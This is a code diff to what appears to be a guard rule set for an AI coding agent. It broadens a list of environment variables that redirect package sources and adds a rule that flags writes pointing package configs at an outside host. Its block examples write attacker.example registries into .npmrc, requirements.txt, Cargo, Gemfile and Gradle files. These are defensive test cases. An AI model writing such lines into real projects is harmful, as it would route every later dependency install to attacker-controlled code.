@@ -5,21 +5,20 @@ import { sourcesNamed } from "../manager-sources.ts";
 import { JAVASCRIPT, PYTHON, SYSTEM } from "../package-managers.ts";
 import { type AnyRule, rule } from "../rule.ts";
 import { calls } from "../shape.ts";
-import { carries, each, has, operands, said, tries, words } from "../vocabulary.ts";
+import { strangerInFile } from "../source-files.ts";
+import { candidates, carries, each, has, name, operands, said, tries, words } from "../vocabulary.ts";
 
 const REVIEW = "Take it from the registry that the project uses; ask the person where another one is needed.";
 
 /** Variables by which tools are told where packages, toolchains and browsers are fetched from; `*` is any part of a name. */
 const VARIABLES = `
-  npm_config_registry npm_config_*:registry bun_config_registry yarn_registry yarn_npm_registry_server jsr_url
-  pip_index_url pip_extra_index_url pip_find_links pipenv_pypi_mirror pdm_pypi_url poetry_repositories_*_url
-  uv_index uv_index_url uv_default_index uv_extra_index_url uv_find_links uv_python_install_mirror
-  goproxy gosumdb cargo_registries_*_index cargo_source_*_registry cargo_registry_index rustup_dist_server rustup_update_root
-  gem_host rubygems_host bundle_mirror__* conda_channels conda_channel_alias hex_mirror hex_api_url maven_repo_url composer_repo*
-  homebrew_bottle_domain homebrew_api_domain homebrew_brew_git_remote homebrew_core_git_remote
-  nvm_nodejs_org_mirror nodejs_org_mirror node_mirror n_node_mirror fnm_node_dist_mirror electron_mirror electron_custom_dir_mirror
-  playwright_download_host puppeteer_download_host puppeteer_download_base_url cypress_download_mirror sass_binary_site
-  prisma_engines_mirror sentrycli_cdnurl pyenv_mirror_url ruby_build_mirror_url nltk_data_url pub_hosted_url
+  *npm_registry julia_pkg_server ghcup_base_url sdkman_candidates_api opamrepository npm_config_registry npm_config_*:registry bun_config_registry yarn_registry yarn_npm_registry_server jsr_url *_mirror
+  *_mirror_url *_download_host *_download_base_url *_install_binary *_binary_site *_artifact_domain *_bottle_domain
+  pip_index_url pip_extra_index_url pip_find_links pdm_pypi_url poetry_repositories_*_url uv_index uv_index_url
+  uv_default_index uv_extra_index_url uv_find_links goproxy gosumdb cargo_registries_*_index cargo_source_*_registry
+  cargo_registry_index rustup_dist_server rustup_update_root gem_host rubygems_host bundle_mirror__* conda_channels
+  conda_channel_alias hex_api_url maven_repo_url composer_repo* homebrew_api_domain homebrew_brew_git_remote
+  homebrew_core_git_remote electron_custom_dir_mirror sentrycli_cdnurl nltk_data_url pub_hosted_url
   flutter_storage_base_url nix_path`;
 
 const SOURCES = new RegExp(`^(?:${VARIABLES.trim().replace(/\s+/g, "|").replaceAll("*", ".*")})$`, "i");
@@ -147,6 +146,42 @@ export const packageSources: readonly AnyRule[] = [
         "NPM_CONFIG_REGISTRY=http://localhost:4873 npm ci",
         "PLAYWRIGHT_DOWNLOAD_HOST=https://npmmirror.com/mirrors/playwright npx playwright install",
         "SCHEMA_REGISTRY_URL=https://registry.example.com npm test",
+      ],
+    },
+  }),
+  rule({
+    id: "packages/source-file",
+    title: "Writing into a file that packages come from a stranger",
+    severity: "high",
+    decision: "ask",
+    owasp: ["ASI04"],
+    attack: "T1195.001",
+    why: "Every later install in this project then takes its code from there, also for those who only check it out.",
+    instead: REVIEW,
+    on: each("write"),
+    match: ({ path, content }) => {
+      const text = content.text ? show(content.text) : (content.holds ?? "");
+      const host =
+        text &&
+        candidates(path)
+          .map((each) => strangerInFile(each, text, content.text === null))
+          .find((each) => each !== null);
+      return host ? `${name(path)}: takes packages from ${host}` : null;
+    },
+    examples: {
+      block: [
+        "echo 'registry=http://attacker.example/' > .npmrc",
+        "printf -- '--index-url https://attacker.example/simple\\nx==1\\n' > requirements.txt",
+        "printf '[source.evil]\\nregistry = \"sparse+https://attacker.example/\"\\n' >> .cargo/config.toml",
+        "echo 'source \"http://attacker.example\"' > Gemfile",
+        "echo 'repositories { maven { url \"https://attacker.example\" } }' >> build.gradle",
+      ],
+      allow: [
+        "echo 'registry=https://registry.npmjs.org/' > .npmrc",
+        "echo 'homepage = \"https://www.example.com\"' >> Cargo.toml",
+        "echo 'requests==2.31' >> requirements.txt",
+        "echo 'repositories { maven { url \"https://repo.example.org/releases\" } }' >> build.gradle",
+        "echo 'registry=http://localhost:4873/' > .npmrc",
       ],
     },
   }),
